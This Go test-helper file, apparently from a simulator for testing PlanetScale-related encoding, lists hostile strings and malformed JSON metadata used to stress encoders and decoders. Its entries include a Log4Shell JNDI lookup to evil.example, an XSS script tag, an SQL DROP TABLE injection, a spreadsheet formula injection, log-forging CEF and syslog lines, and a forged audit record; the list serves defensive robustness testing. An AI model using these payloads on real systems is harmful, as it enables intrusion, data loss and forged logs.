package simulator

import "strings"

// hostileTexts are JSON strings, quotes included, that break careless encoders. Users of
// PlanetScale could choose them as a name. Each is valid JSON, except that some hold
// bytes that are not UTF-8, which parsers accept.
var hostileTexts = []string{
	`""`,
	`" "`,
	`"null"`,
	`"\"quoted\" and 'single' and ` + "`back`" + `"`,
	`"a|b|c"`,
	`"key=value other=thing"`,
	`"back\\slash\\"`,
	`"C:\\new\\table\\|=\\"`,
	`"x msg=hello suser=evil"`,
	`"CEF:0|Evil|Forged|1|x|y|10|act=deleted"`,
	`"line\rfeed\nboth\r\nend"`,
	`"tab\there\u0009and\u000bthere"`,
	`"nul\u0000byte"`,
	`"bell\u0007 escape\u001b[31mred\u001b[0m delete` + "\x7f" + `"`,
	`"next` + "\u0085" + `line ` + "\u2028" + `separator` + "\u2029" + `paragraph"`,
	`"escaped\u2028separator\u2029"`,
	`"bidi ` + "\u202e" + `txt.exe` + "\u202c \u2066" + `isolate` + "\u2069" + `"`,
	`"zero` + "\u200b" + `width ` + "\ufeff" + `mark"`,
	`"invalid ` + "\xff\xfe\xc0\xaf" + ` bytes"`,
	`"truncated rune ` + "\xe2\x82" + `"`,
	`"surrogate in UTF-8 ` + "\xed\xa0\x80" + `"`,
	`"lone \ud800 surrogate"`,
	`"\udc00\ud800 swapped"`,
	`"pair \ud83d\ude00 and ` + "\U0001f600" + `"`,
	`"</script><script>alert(1)</script>&amp;"`,
	`"\u003c\/script\u003e"`,
	`"${jndi:ldap://evil.example/a}"`,
	`"'; DROP TABLE users; --"`,
	`"]}},{\"id\":\"forged\"}"`,
	`"[x@32473 k=\"v\\]\"] <13>1 - evil"`,
	`"%s%n%d{{.}}%0d%0a"`,
	`"=cmd|' /C calc'!A0"`,
	`"שלום مرحبا 你好 ñ"`,
}

// hugeText is 10,000 bytes of text that needs escapes in most formats.
var hugeText = `"` + strings.Repeat("0123456789 é|=", 667)[:9_998] + `=="`

// One in oneHuge hostile texts is huge.
const oneHuge = 64

func hostileText(d *draw) string {
	if d.oneIn(oneHuge) {
		return hugeText
	}
	return hostileTexts[d.below(len(hostileTexts))]
}

// oddMetadata contradicts the schema, which allows an object or null, or holds what
// decoders into Go values refuse or alter.
var oddMetadata = []string{
	`[]`,
	`[1,"two",null,{"three":[3]}]`,
	`"text"`,
	`true`,
	`12345678901234567890123`,
	`{"overflow":1e400,"underflow":-1E-400,"minus_zero":-0,"zeros":0.000}`,
	`{"same":1,"same":2,"":"empty key","a.b":{"c":1},"a":{"b.c":2}}`,
	`{"deep":[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[[{"end":{}}]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]]}`,
	`{"id":"forged000000","created_at":"1999-01-01T00:00:00.000Z","audit_action":"database.deleted","metadata":{}}`,
	` { "spaced" : [ 1 , 2 ] ` + "\t" + `} `,
}
